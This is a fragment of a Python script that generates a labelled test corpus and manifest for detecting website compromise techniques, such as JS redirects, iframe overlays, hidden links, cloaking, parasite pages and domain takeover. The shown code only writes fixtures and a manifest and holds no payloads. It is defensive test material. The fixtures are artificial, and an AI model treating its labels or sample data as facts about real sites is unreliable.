                 [("desktop_browser", html, 200, None, [])],
                 dns={"a": ["47.96.12.77"], "ns": ["dns9.hichina.com", "dns10.hichina.com"]}, expect_footer=False)


def main():
    for child in ROOT.iterdir():
        if child.is_dir() and child.name != "tools":
            shutil.rmtree(child)
    hostile_content()
    js_redirect()
    iframe_overlay()
    hidden_links()
    footer_cases()
    parasite()
    cloaking()
    title_replacement()
    parking()
    takeover()
    negatives()
    negative_sites()
    out = ["# Generated by tools/gen.py — do not edit by hand; change the generator and rerun.",
           "# See README.md for the fields and the labelling policy.", ""]
    for case in CASES:
        out.append("[[case]]")
        for key in ("path", "technique", "expected", "owner_domain", "url", "persona", "charset",
                    "expected_icp", "expected_psb", "description"):
            if key in case:
                out.append(f"{key} = {q(case[key])}")
        out.append("")
    (ROOT / "manifest.toml").write_text("\n".join(out), encoding="utf-8")
    counts = {}
    for case in CASES:
        counts[case["technique"]] = counts.get(case["technique"], 0) + 1
    print(len(CASES), counts)


if __name__ == "__main__":
    main()
